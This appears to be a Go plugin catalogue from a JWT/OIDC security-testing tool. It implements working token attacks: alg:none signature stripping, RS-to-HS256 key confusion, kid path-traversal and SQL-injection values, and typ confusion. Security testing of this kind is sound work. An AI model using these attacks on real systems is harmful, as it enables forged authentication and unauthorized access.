package catalogue

import (
	"context"
	"strings"

	"github.com/loki-oidc/loki-splice/pkg/plugins"
)

func asTokenContext(mc plugins.Context) (plugins.TokenContext, bool) {
	tc, ok := mc.(plugins.TokenContext)
	return tc, ok
}

// AlgNone sets the header alg to "none" and clears the signature, the
// textbook JWT "alg:none" bypass.
var AlgNone = plugins.Descriptor{
	ID:          "alg-none",
	Name:        "Algorithm None",
	Description: "Rewrites the JWT header alg to \"none\" and strips the signature.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseTokenSigning,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7519 §6",
		CWE:         "CWE-347",
		Description: "JWT libraries that honor alg:none accept completely unsigned tokens.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Header()["alg"]
		tc.Token.Header()["alg"] = "none"
		tc.Token.SetSignature("")
		return result(true, "set header.alg=none and cleared signature", map[string]any{
			"before_alg": before,
			"after_alg":  "none",
		})
	},
}

// KeyConfusion signs with HS256 using the issuer's RSA/EC public key PEM as
// the HMAC secret. Only fires against RS*/PS* tokens.
var KeyConfusion = plugins.Descriptor{
	ID:          "key-confusion",
	Name:        "Algorithm Key Confusion",
	Description: "Resigns an RS*/PS* token with HS256, using the issuer's public key PEM as the HMAC secret.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseTokenSigning,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7518 §3",
		CWE:         "CWE-347",
		Description: "Verifiers that pass the configured RSA public key into an HMAC verify accept attacker-forged tokens.",
	},
	Apply: func(ctx context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		alg, _ := tc.Token.Header()["alg"].(string)
		if !strings.HasPrefix(alg, "RS") && !strings.HasPrefix(alg, "PS") {
			return notApplied()
		}

		pubPEM, err := tc.Token.PublicKeyPEM(ctx)
		if err != nil {
			return notApplied()
		}

		if err := tc.Token.Sign("HS256", []byte(pubPEM)); err != nil {
			return notApplied()
		}

		return result(true, "resigned with HS256 using issuer public key as HMAC secret", map[string]any{
			"original_alg": alg,
			"new_alg":      "HS256",
		})
	},
}

const (
	kidModeRemove    = "remove"
	kidModeInvalid   = "invalid"
	kidModeInjection = "injection"
	kidModeSQL       = "sql"
)

// KidManipulation mutates the header's kid per spec.md §4.B.
var KidManipulation = plugins.Descriptor{
	ID:          "kid-manipulation",
	Name:        "Key ID Manipulation",
	Description: "Mutates the JWT header's kid to probe key-lookup handling.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseTokenSigning,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7515 §4.1.4",
		CWE:         "CWE-20",
		Description: "Unsafe kid handling can enable path traversal or injection against key stores.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Header()["kid"]
		m := mode(tc.Config(), kidModeInvalid)

		var after any
		switch m {
		case kidModeRemove:
			delete(tc.Token.Header(), "kid")
			after = nil
		case kidModeInjection:
			after = "../../../../etc/passwd"
			tc.Token.Header()["kid"] = after
		case kidModeSQL:
			after = "' OR '1'='1"
			tc.Token.Header()["kid"] = after
		default: // kidModeInvalid
			after = "nonexistent-key-id-00000000"
			tc.Token.Header()["kid"] = after
		}

		return result(true, "mutated header.kid ("+m+")", map[string]any{
			"mode": m, "before_kid": before, "after_kid": after,
		})
	},
}

const (
	typConfirmModeRemove   = "remove"
	typConfirmModeInvalid  = "invalid"
	typConfirmModeSwap     = "swap"
	typConfirmModeCaseFlip = "case"
)

// TokenTypeConfusion manipulates the header's typ claim.
var TokenTypeConfusion = plugins.Descriptor{
	ID:          "token-type-confusion",
	Name:        "Token Type Confusion",
	Description: "Mutates the JWT header's typ to probe type-confusion handling (e.g. JWT vs at+jwt).",
	Severity:    plugins.SeverityMedium,
	Phase:       plugins.PhaseTokenSigning,
	Spec: plugins.SpecRef{
		RFC:         "RFC 8725 §3.11",
		Description: "Servers that don't pin typ can be confused into accepting tokens minted for another purpose.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before, _ := tc.Token.Header()["typ"].(string)
		m := mode(tc.Config(), typConfirmModeSwap)

		var after any
		switch m {
		case typConfirmModeRemove:
			delete(tc.Token.Header(), "typ")
			after = nil
		case typConfirmModeInvalid:
			after = "not-a-real-type"
			tc.Token.Header()["typ"] = after
		case typConfirmModeCaseFlip:
			after = flipCase(before)
			tc.Token.Header()["typ"] = after
		default: // swap
			if strings.EqualFold(before, "at+jwt") {
				after = "JWT"
			} else {
				after = "at+jwt"
			}
			tc.Token.Header()["typ"] = after
		}

		return result(true, "mutated header.typ ("+m+")", map[string]any{
			"mode": m, "before_typ": before, "after_typ": after,
		})
	},
}

func flipCase(s string) string {
	out := []rune(s)
	for i, r := range out {
		switch {
		case r >= 'a' && r <= 'z':
			out[i] = r - ('a' - 'A')
		case r >= 'A' && r <= 'Z':
			out[i] = r + ('a' - 'A')
		}
	}
	return string(out)
}
